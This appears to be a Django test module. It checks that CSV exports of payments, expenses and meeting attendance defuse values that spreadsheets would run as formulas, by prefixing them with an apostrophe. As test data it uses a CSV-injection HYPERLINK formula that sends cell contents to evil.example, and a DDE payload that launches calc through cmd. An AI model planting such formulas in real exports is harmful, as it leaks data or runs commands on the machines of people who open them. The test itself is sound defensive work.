"""CSV exports never carry a cell a spreadsheet would run as a formula."""

import csv
import io
from decimal import Decimal

import pytest
from django.contrib.auth.models import Permission
from django.urls import reverse

from apps.communities.models import Attendance
from apps.involvement.enums import PaymentStatus
from tests.admin_forms import confirm_identity
from tests.auth import sign_in
from tests.factories.accounts import StaffFactory, UserFactory
from tests.factories.communities import MeetingFactory
from tests.factories.involvement import ActivityFactory, ExpenseFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def _rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode())))


def test_payment_run_export_neutralises_a_name_that_looks_like_a_formula(client):
    from apps.involvement.services import payment_run_create

    member = UserFactory(display_name=FORMULA)
    ActivityFactory(user=member, amount_due=Decimal("50.00"), payment_status=PaymentStatus.APPROVED)
    coordinator = StaffFactory()
    coordinator.user_permissions.add(
        *Permission.objects.filter(codename__in=["export_finance", "view_paymentrun"])
    )
    run = payment_run_create(by=coordinator)
    sign_in(client, coordinator)
    confirm_identity(client)

    response = client.get(reverse("admin:involvement_paymentrun_export", args=[run.pk]))

    assert _rows(response)[1][2] == "'" + FORMULA
    assert _rows(response)[1][8] == "50.00"


def test_member_record_csv_neutralises_a_description_that_looks_like_a_formula(client):
    expense = ExpenseFactory(description="@SUM(1+1)*cmd|' /C calc'!A0")
    sign_in(client, expense.user)

    response = client.get("/me/involvement/record.csv")

    expense_row = next(row for row in _rows(response) if row[0].startswith("Expense"))
    assert expense_row[2] == "'@SUM(1+1)*cmd|' /C calc'!A0"


def test_admin_attendance_export_neutralises_a_name_that_looks_like_a_formula(client):
    meeting = MeetingFactory(title="+Evidence review")
    Attendance.objects.create(meeting=meeting, user=UserFactory(display_name=FORMULA))
    sign_in(client, StaffFactory(is_superuser=True))
    confirm_identity(client)

    response = client.post(
        reverse("admin:communities_meeting_changelist"),
        {"action": "export_attendance_csv", "_selected_action": [meeting.pk]},
    )

    assert _rows(response)[1][1:4:2] == ["'+Evidence review", "'" + FORMULA]
